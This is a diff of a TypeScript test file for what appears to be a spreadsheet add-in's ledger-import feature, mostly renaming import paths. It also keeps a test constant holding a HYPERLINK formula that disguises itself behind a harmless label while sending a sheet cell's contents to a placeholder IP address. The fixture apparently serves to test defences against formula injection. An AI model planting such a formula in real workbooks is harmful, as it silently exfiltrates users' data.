@@ -7,15 +7,15 @@
 import ExcelJS from "exceljs";
 import type { Report } from "../../src/report";
 import { emptyReport } from "../../src/report/empty";
-import type { WorkbookPort } from "../../src/excel/port";
-import type { FakeWorkbookModel } from "../../src/excel/fake/model";
-import { confirmWrites } from "../../src/taskpane/transfer";
-import { prepare, readSource } from "../../src/taskpane/transferModule";
-import { ledgerImportWrites, previewImport, registerSources } from "../../src/taskpane/ledgerImport";
+import type { WorkbookPort } from "../../src/workbook/port";
+import type { FakeWorkbookModel } from "../../src/workbook/memory/model";
+import { confirmWrites } from "../../src/pane/transfer";
+import { prepare, readSource } from "../../src/pane/transferModule";
+import { ledgerImportWrites, previewImport, registerSources } from "../../src/pane/ledgerImport";
 import { templateLayout, META_KEYS } from "../../src/template/layout";
 import { parseRect } from "../../src/template/address";
 import { fakeWithPort, hasApi, PROFILES, saveXlsx, sheetOf, templateBytes } from "../template/support";
-import { wpsWithPort } from "../wps/support";
+import { wpsWithPort } from "../hosts/wps/support";
 
 /** Shows a harmless name, sends 表三 out when the cell is a live formula. */
 const EVIL = `=HYPERLINK("http://203.0.113.9/?leak="&'表三'!D5,"平潭某局")`;
